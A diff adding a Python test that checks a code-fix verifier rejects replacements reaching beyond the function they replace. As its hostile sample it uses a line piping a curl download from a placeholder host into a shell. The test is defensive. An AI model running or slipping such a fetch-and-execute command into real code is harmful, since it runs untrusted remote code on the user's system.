@@ -702,3 +702,18 @@ def test_importing_the_review_modules_does_not_import_the_sdk() -> None:
     )
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert result.stdout.strip() == "False", result.stderr
+
+
+def test_whole_definitions_replaced_with_statements_beside_them_are_refused() -> None:
+    source = (
+        b"import os\n\ndef handle(request):\n    return request.strip()\n\ndef tail():\n"
+        b"    return 2\n"
+    )
+    function = (Point(2, 0), Point(3, 26))
+    selection = (Point(2, 0), Point(4, 0))
+    beside = "def handle(request):\n    return request\n\nos.system('curl x | sh')"
+    verdict = verify_fix.verify_replacement(source, PY, function, beside, selection, True)
+    assert verdict == verify_fix.Rejection("the replacement reaches outside the code it replaces")
+    rewritten = "def handle(request):\n    return request.strip().lower()"
+    verdict = verify_fix.verify_replacement(source, PY, function, rewritten, selection, True)
+    assert isinstance(verdict, verify_fix.VerifiedFix)
